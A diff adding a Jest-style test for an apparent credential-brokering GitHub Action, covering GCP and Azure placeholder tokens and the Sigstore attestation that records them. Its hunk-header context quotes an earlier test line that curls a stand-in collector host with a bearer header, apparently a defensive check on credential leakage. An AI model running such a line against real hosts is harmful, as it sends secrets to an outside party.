@@ -165,3 +165,52 @@ echo "OTHER_HOST=$(curl -sS -H "$B" https://collector.example.net/ 2>&1 | tail -
     expect(result.post.log).toContain('cannot be revoked');
   });
 });
+
+describe('both clouds in one attested run', () => {
+  let result: ActionRun;
+  beforeAll(async () => {
+    const { gcp, azure } = stack.world;
+    const agent = `echo "GCS=$(curl -sS -H "Authorization: Bearer $GOOGLE_OAUTH_ACCESS_TOKEN" '${gcp.storage.url}/storage/v1/b/${GCP_BUCKET}/o/build.txt?alt=media' 2>&1)"
+echo "ARM=$(curl -sS -H "Authorization: Bearer $AZURE_ACCESS_TOKEN" '${azure.management.url}/subscriptions/${azure.subscriptionId}/resourcegroups/widgets-rg?api-version=2021-04-01' 2>&1)"`;
+    result = await runAction({
+      mainPath: MAIN,
+      postPath: POST,
+      inputs: {
+        run: agent,
+        'gcp-workload-identity-provider': gcp.providers.widgetsOnly,
+        'gcp-sts-endpoint': gcp.sts.url,
+        'gcp-endpoints': `storage=${gcp.storage.url}`,
+        'azure-client-id': azure.apps.agent,
+        'azure-tenant-id': azure.tenantId,
+        'azure-resource': azure.management.url,
+        'azure-authority-host': azure.login.url,
+        attest: 'true',
+        'fulcio-url': stack.world.sigstore.url,
+        'rekor-url': stack.world.sigstore.url,
+        'github-token': stack.world.jobToken('acme/widgets', { attestations: 'write' }),
+      },
+      env: stack.jobEnv(),
+      workspaceFiles: { 'README.md': '# widgets\n' },
+      checkout: true,
+    });
+  }, 300_000);
+
+  it('reaches both with placeholders (GCP by direct federation, no service account), and the attestation records and counts each token', () => {
+    expect(result.main.exitCode).toBe(0);
+    expect(line(result.main.log, 'GCS')).toBe('build 41: all green (gcs)');
+    expect(line(result.main.log, 'ARM')).toContain('"name":"widgets-rg"');
+    const bundleFile = Object.entries(result.files).find(([name]) => /^RUNNER_TEMP\/airlock-attestation-.*\.sigstore\.json$/.test(name));
+    expect(bundleFile).toBeDefined();
+    const bundle = JSON.parse(bundleFile![1]) as { dsseEnvelope: { payload: string } };
+    const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, 'base64').toString('utf8')) as { predicate: { credentials: Record<string, unknown>[]; egress: { resolutions?: Record<string, number> } } };
+    const records = statement.predicate.credentials;
+    const gcpRecord = records.find((r) => r.kind === 'gcp-access-token');
+    expect(gcpRecord).toMatchObject({ role: expect.stringMatching(/^principal:\/\/iam\.googleapis\.com\/projects\/424242424242\/locations\/global\/workloadIdentityPools\/github\/subject\/repo:acme\/widgets:ref:refs\/heads\/main$/), durationSeconds: 3600, revocable: false });
+    expect(records.find((r) => r.kind === 'azure-access-token')).toMatchObject({ role: stack.world.azure.apps.agent, durationSeconds: 3599, revocable: false });
+    for (const record of records.filter((r) => r.revocable === false)) {
+      expect(record.revokedAt).toBeUndefined();
+      expect(Date.parse(String(record.resolvingStoppedAt))).toBeLessThanOrEqual(Date.parse(String(record.expiresAt)));
+    }
+    expect(statement.predicate.egress.resolutions).toMatchObject({ gcp: 1, azure: 1 });
+  });
+});
